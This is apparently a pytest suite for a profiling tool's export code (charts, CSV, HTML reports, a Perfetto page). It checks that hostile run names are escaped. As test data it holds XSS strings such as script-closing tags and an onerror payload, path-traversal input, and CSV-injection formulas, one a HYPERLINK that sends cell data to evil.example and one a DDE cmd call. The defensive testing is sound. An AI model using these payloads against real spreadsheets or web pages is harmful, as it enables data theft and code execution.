"""Export: PNG/SVG through vl-convert (offline), CSV, and the one-file HTML report."""
from __future__ import annotations

import datetime as dt

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from profiling_core.present import charts as C
from profiling_core.present import export as E


@pytest.fixture(scope="module")
def chart():
    sweep = pd.DataFrame({"size": [64, 1024, 8192], "cpu_us_per_step": [140.0, 140.0, 140.0],
                          "gpu_busy_us_per_step": [3.0, 30.0, 1400.0]})
    return C.overhead_vs_compute(sweep)


def test_png_has_magic_bytes_and_scales(chart):
    small = E.chart_png(chart, scale=1)
    big = E.chart_png(chart, scale=2)
    assert small[:8] == b"\x89PNG\r\n\x1a\n"
    width = lambda png: int.from_bytes(png[16:20], "big")  # IHDR width
    assert width(big) == pytest.approx(2 * width(small), abs=2)


def test_svg_is_svg_and_keeps_text(chart):
    svg = E.chart_svg(chart)
    assert svg.lstrip().startswith("<svg") and svg.rstrip().endswith("</svg>")
    assert "crossover" in svg


def test_spec_dict_passes_through(chart):
    spec = chart.to_dict()
    assert E.chart_spec(spec) == spec
    assert E.chart_svg(spec).lstrip().startswith("<svg")


def test_csv_has_header_and_no_index():
    df = pd.DataFrame({"kernel": ["gemm, tn"], "dur_us": [1.5]})
    assert E.dataframe_csv(df) == b'kernel,dur_us\n"gemm, tn",1.5\n'


@pytest.mark.parametrize("text, slug", [("64_bf16 cold/eager", "64_bf16_cold_eager"),
                                        ("../../etc", "etc"), ("", "export")])
def test_safe_filename(text, slug):
    assert E.safe_filename(text) == slug


def test_html_report_is_self_contained(chart):
    table = pd.DataFrame({"kernel": ["<gemm>"], "dur_us": [169.4]})
    page = E.html_report(
        "Overhead vs compute",
        [E.ReportSection("Sweep", text="first paragraph\n\nsecond", charts=[chart], tables=[("kernels", table)],
                         findings=[("Overhead-bound", "GPU busy 2 % of the step")])],
        configs={"run-1": {"size": 64, "dtype": "bf16"}},
        environment={"torch": "2.13.0", "cuda": None},
        generated=dt.datetime(2026, 11, 29, 12, 0, tzinfo=dt.timezone.utc))
    assert page.startswith("<!doctype html>") and page.endswith("</html>")
    assert "generated 2026-11-29 12:00 UTC" in page
    assert "<svg" in page and "&lt;gemm&gt;" in page and "<gemm>" not in page
    assert "Overhead-bound" in page and "run-1" in page and "2.13.0" in page
    assert "<p>second</p>" in page
    # offline: no script or stylesheet is fetched
    assert "<script" not in page and "http://cdn" not in page and "https://cdn" not in page


def test_finding_objects_are_accepted():
    class F:
        title = "Cold start"
        text = "first step 2.9 ms"
    page = E.html_report("t", [E.ReportSection("s", findings=[F()])])
    assert "Cold start" in page and "first step 2.9 ms" in page


def test_perfetto_handover_refuses_a_trace_too_large_for_the_page(monkeypatch):
    from profiling_core.present import export
    monkeypatch.setattr(export, "PERFETTO_OPEN_MAX_BYTES", 10)
    with pytest.raises(ValueError, match="at most 0 MiB can be handed to the Perfetto UI"):
        export.perfetto_open_html(b"x" * 11, "run")
    html = export.perfetto_open_html(b"{}", "a</script>b")
    assert "a\\u003c/script\\u003eb" in html and "</script>b" not in html  # the title cannot close the script


def test_report_includes_torchs_table_as_text():
    from profiling_core.present.export import ReportSection, html_report
    table = "Name      Self CPU %\naten::mm  <b>57.5%</b>\n"
    page = html_report("r", [ReportSection("Profiler table", preformatted=table)])
    assert "<pre" in page and "aten::mm  &lt;b&gt;57.5%&lt;/b&gt;" in page  # as it is, escaped


# --- untrusted names in the HTML and the script this package writes ------------------------------------------------

# what a name from a run, an upload or a trace may hold: HTML, script, template, shell and terminal metacharacters
METACHARS = ["<!--<script>", "</script>", "</SCRIPT >", "-->", "<!--", '"', "'", "&amp;", "<img src=x>", "\u2028",
             "\u2029", "\x1b[31m", "\x1b]0;title\x07", "{{x}}", "${x}", "`", "$", "\\", "\ud800", "é", "\x00"]


def _script_body(page: str) -> str:
    """The text between the page's one ``<script>`` and the last ``</script>``: what the HTML tokenizer hands to
    JavaScript, provided the body holds no ``</script`` (which would end it early) and no ``<!--`` (which, before a
    ``<script``, makes the closing tag not end it)."""
    start = page.index("<script>") + len("<script>")
    return page[start:page.rindex("</script>")]


def _meta(body: str) -> dict:
    import json
    import re
    return json.loads(re.search(r"^const META = (.*);$", body, re.MULTILINE)[1])


@pytest.mark.parametrize("name", ["<!--<script>", "a</script><!--<script>b", 'x"; alert(1); "', "l\u2028s\u2029p",
                                  "-->", "\x1b[2J"])
def test_the_perfetto_button_keeps_a_hostile_name_inside_its_script(name):
    page = E.perfetto_open_html(b"{}", name, name + ".json")
    body = _script_body(page)
    assert page.count("<script") == 1
    for bad in ("</script", "<!--", "-->", "\u2028", "\u2029"):
        assert bad not in body.lower(), bad
    assert _meta(body) == {"title": name, "fileName": name + ".json", "origin": E.PERFETTO_UI}


def _hostile_report(name: str) -> str:
    df = pd.DataFrame({"kernel": [name, "ok"], name: [1.5, 2.0], "n": [1, 2]})
    return E.html_report(name, [E.ReportSection(name, text=f"about {name}", tables=[(name, df)],
                                                findings=[(name, f"text {name}")], preformatted=name)],
                         configs={name: {"name": name}}, environment={"host": name})


def _parsed(page: str) -> tuple[list, str]:
    """(the tags, attributes, comments and declarations, in order; the text) of an HTML page, as a parser reads it
    (character references read back)."""
    from html.parser import HTMLParser
    markup, text = [], []

    class Reader(HTMLParser):
        def handle_starttag(self, tag, attrs):
            markup.append(("start", tag, attrs))

        def handle_endtag(self, tag):
            markup.append(("end", tag))

        def handle_comment(self, data):
            markup.append(("comment", data))

        def handle_decl(self, decl):
            markup.append(("decl", decl))

        def handle_pi(self, data):
            markup.append(("pi", data))

        def handle_data(self, data):
            text.append(data)

    r = Reader(convert_charrefs=True)
    r.feed(page)
    r.close()
    return markup, "".join(text)


PLAIN = "plainname"


def _assert_only_text(name: str) -> None:
    """The report with ``name`` everywhere a run or kernel name goes has the same markup as with a plain name, and its
    text is that report's text with the name in place of the plain one: the name made no tag, attribute or comment."""
    markup, text = _parsed(_hostile_report(name))
    plain_markup, plain_text = _parsed(_hostile_report(PLAIN))
    assert markup == plain_markup
    # (pandas strips a table cell's surrounding white space, U+2028 included, and shows its \n \r \t as escapes)
    words = lambda t: t.replace("\\n", " ").replace("\\r", " ").replace("\\t", " ").split()
    assert words(text) == words(plain_text.replace(PLAIN, name))


@pytest.mark.parametrize("name", ['run "<!--<script>" \'x\' & </script>', "<img src=x onerror=alert(1)>", '"',
                                  "a\u2028b", "\x1b[31m{{x}}`$`"])
def test_the_html_report_has_hostile_names_only_as_text(name):
    from profiling_core.present import html_text
    page = _hostile_report(name)
    assert page.count(html_text(name)) >= 10  # title, heading, texts, finding, table and its column, configs, host
    if any(c in name for c in "<>&\"'"):
        for raw in ("<!--", "<script", "</script", "<img", '"<!', "'x'"):
            assert raw not in page or raw not in name, raw
    _assert_only_text(name)


names = st.lists(st.one_of(st.sampled_from(METACHARS), st.text(max_size=3)), min_size=1, max_size=8).map("".join)


@settings(max_examples=300, deadline=None)
@given(names)
def test_any_name_comes_back_intact_from_the_perfetto_script(name):
    body = _script_body(E.perfetto_open_html(b"{}", name))
    assert "</script" not in body.lower() and "<!--" not in body and "-->" not in body
    assert body.isascii()  # U+2028/2029 and every other non-ASCII character as a \u escape
    assert _meta(body)["title"] == name


@settings(max_examples=150, deadline=None)
@given(names.filter(lambda n: "\n\n" not in n and PLAIN not in n and n.strip() and "\ud800" not in n))
def test_any_name_is_only_text_in_the_report(name):
    # (no lone surrogate: the trace loader reads one as U+FFFD, and pandas' strings cannot hold it)
    _assert_only_text(name)


VEGA_UNSAFE = [chr(c) for c in (*range(0x09), 0x0B, 0x0C, *range(0x0E, 0x20))] + ["\ufffe", "\uffff",
                                                                                     "\u2028", "\u2029"]


def test_a_chart_of_names_with_control_characters_renders_instead_of_aborting_the_process():
    """vl-convert parses the SVG it writes as XML and aborts the process (a Rust panic, no exception) on a character
    XML 1.0 refuses: a kernel named with an ESC sequence took the whole app down on its report or PNG button. A name
    with U+2028 in a custom sort order made Vega-Lite's expression parser refuse the chart. Drawn in a child process,
    so an abort fails this test instead of ending the test run."""
    import subprocess
    import sys
    code = f"""
import altair as alt, pandas as pd
from profiling_core.present import export
names = {VEGA_UNSAFE!r}
df = pd.DataFrame({{"kernel": ["k" + c + "[31m" for c in names], "us": range(len(names))}})
chart = alt.Chart(df, title="run \\x1b]0;t\\x07").mark_bar().encode(y=alt.Y("kernel:N", sort=list(df["kernel"])),
                                                                   x="us:Q")
svg = export.chart_svg(chart)
assert export.chart_png(chart)[:4] == b"\\x89PNG"
print(svg.count("k\\\\x1b[31m"), svg.count("run \\\\x1b]0;t\\\\x07"))
"""
    r = subprocess.run([sys.executable, "-c", code], check=False, capture_output=True, text=True, timeout=300)
    assert r.returncode == 0, r.stderr[-2000:]
    label, title = map(int, r.stdout.split())
    assert label >= 1 and title >= 1  # the ESC kernel's label and the title, escaped to be read


def test_vega_safe_escapes_only_what_breaks_a_chart():
    from profiling_core.present import terminal_safe, vega_safe
    for c in VEGA_UNSAFE:
        assert vega_safe("a" + c) == "a" + (terminal_safe(c) if ord(c) < 0x80 else f"\\u{ord(c):04x}")
    keep = "tab\t nl\n cr\r del\x7f c1\x85 é € 😀 \\u2028 \"'<>{{x}}`$"
    assert vega_safe({"k\x1b": [keep, 1, 2.5, None, True]}) == {"k\\x1b": [keep, 1, 2.5, None, True]}
    assert vega_safe("bidi\u202e") == "bidi\\u202e"  # (a chart's label is read too: present.terminal.BIDI_CONTROLS)


def test_a_missing_value_is_an_empty_cell_not_a_tag():
    """A CPU trace's steps table has no GPU start (pandas' NA): pandas wrote it as "<NA>" into the HTML unescaped, a
    tag a browser drops. It is an empty cell; the environment is said to be where the report was written."""
    df = pd.DataFrame({"step": [1, 2], "first_gpu_start_ns": pd.array([None, 5], dtype="Int64"),
                       "name": ["a", None]})
    html = E.html_report("t", [E.ReportSection("steps", tables=[("steps", df)])], environment={"torch": "2.13.0+cpu"})
    assert "<NA>" not in html and "&lt;NA&gt;" not in html and "None" not in html
    assert "<h2>Where this report was written</h2>" in html and "<h2>Environment</h2>" not in html


def test_csv_cells_a_spreadsheet_would_run_are_written_as_text():
    """Kernel and run names come from traces and users: one beginning with = + - @ is a formula to a spreadsheet
    (CSV injection). Such a cell gets a leading ' (shown as text); numbers with units and plain text stay as they
    are."""
    import csv
    import io

    import pandas as pd
    from profiling_core.present.export import dataframe_csv
    df = pd.DataFrame({"run": ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "@SUM(1)",
                               "-x", "plain"],
                       "size": ["-1.5 KiB", "+3%", "-12", "1,024", "x"], "us": [1.0, 2.0, 3.0, 4.0, 5.0]})
    rows = list(csv.reader(io.StringIO(dataframe_csv(df).decode())))
    assert [r[0] for r in rows[1:]] == ["'" + v for v in df["run"][:4]] + ["plain"]
    assert [r[1] for r in rows[1:]] == list(df["size"]) and [r[2] for r in rows[1:]] == ["1.0", "2.0", "3.0", "4.0",
                                                                                         "5.0"]


def test_the_report_s_tables_never_round_a_figure_to_zero_or_one():
    """A table cell of 0.000581 TFLOP/s read 0.001, a fraction of peak of 0.0004 read 0.000 and a busy share of 0.9996
    read 1.000 (every float at three decimals): the report now writes six significant digits, as the app's counts."""
    import re

    import pandas as pd
    from profiling_core.present.export import ReportSection, html_report
    df = pd.DataFrame({"run": ["64_fp32_warm_eager"], "tflops": [0.000581], "fraction_of_peak": [0.0004],
                       "gpu_busy_fraction": [0.9996], "us": [1234.5678]})
    html = html_report("r", [ReportSection("GEMM against the peak", tables=[("gemm", df)])])
    assert re.findall(r"<td>([^<]*)</td>", html) == ["64_fp32_warm_eager", "0.000581", "0.0004", "0.9996", "1234.57"]


def test_the_html_report_leaves_an_unknown_figure_empty_as_the_csv_does():
    """A CPU run has no GPU figures (NaN): the report wrote "NaN" in their cells, while None and pandas' NA were
    already left empty and the CSV of the same table leaves them all empty."""
    import re

    import numpy as np
    import pandas as pd
    from profiling_core.present.export import ReportSection, html_report
    df = pd.DataFrame({"run": ["cpu_run", "gpu_run"], "gpu_busy_fraction": [np.nan, 0.5],
                       "launches_per_step": [float("nan"), 3.0], "note": [None, "x"]})
    html = html_report("r", [ReportSection("steps", tables=[("steps", df)])])
    cells = re.findall(r"<td>([^<]*)</td>", html)
    assert cells == ["cpu_run", "", "", "", "gpu_run", "0.5", "3", "x"]
    assert [c if c == c else "" for c in df.to_csv(index=False).splitlines()[1].split(",")] == ["cpu_run", "", "", ""]
